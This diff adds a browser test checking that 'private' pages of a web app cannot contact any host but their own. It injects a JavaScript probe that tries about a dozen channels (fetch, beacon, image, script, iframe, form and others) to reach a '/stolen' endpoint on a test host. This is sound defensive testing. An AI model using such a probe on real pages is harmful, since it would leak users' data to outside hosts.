@@ -322,3 +322,49 @@ def test_nothing_is_left_of_files_that_were_not_imported(fresh: Page, site: str)
     dialog.get_by_role("button", name="Cancel").click()
     page.goto(f"{site}saved.html")
     expect(page.get_by_role("heading", name="Nothing is saved here yet")).to_be_visible()
+
+
+# Private pages
+
+
+SEND = """async (elsewhere) => {
+    const address = (how) => `${elsewhere}/stolen?how=${how}`;
+    const quietly = (promise) => Promise.resolve(promise).catch(() => {});
+    const element = (name, fields) =>
+        new Promise((resolve) => {
+            const made = Object.assign(document.createElement(name), fields);
+            made.onload = made.onerror = resolve;
+            document.body.append(made);
+        });
+    await quietly(fetch(address("fetch"), { mode: "no-cors" }));
+    await quietly(import(address("import")));
+    try {
+        navigator.sendBeacon(address("beacon"), "x");
+    } catch {}
+    await element("img", { src: address("img") });
+    await element("script", { src: address("script") });
+    await element("link", { rel: "stylesheet", href: address("style") });
+    await new Promise((resolve) => {
+        const source = new EventSource(address("events"));
+        source.onerror = () => resolve(source.close());
+    });
+    element("iframe", { src: address("frame") });
+    const form = Object.assign(document.createElement("form"), { action: address("form") });
+    document.body.append(form);
+    form.submit();
+    await quietly(fetch(location.href)); // one that may, after all of them
+}"""
+
+
+@pytest.mark.console_errors
+@pytest.mark.parametrize("private", [True, False])
+def test_private_pages_talk_to_this_site_only(
+    fresh: Page, files: DataHost, site: str, private: bool
+) -> None:
+    table = files.add("t.csv", b"a\n1\n")
+    follow(fresh, link(site, "data/t", csv=table, **({"private": "1"} if private else {})))
+    files.requests.clear()
+    fresh.evaluate(f"({SEND})('{files.origin}').catch(() => {{}})")
+    fresh.wait_for_load_state("networkidle")
+    sent = {path.partition("how=")[2] for _, path in files.requests}
+    assert sent == set() if private else {"fetch", "img", "script", "events"} <= sent
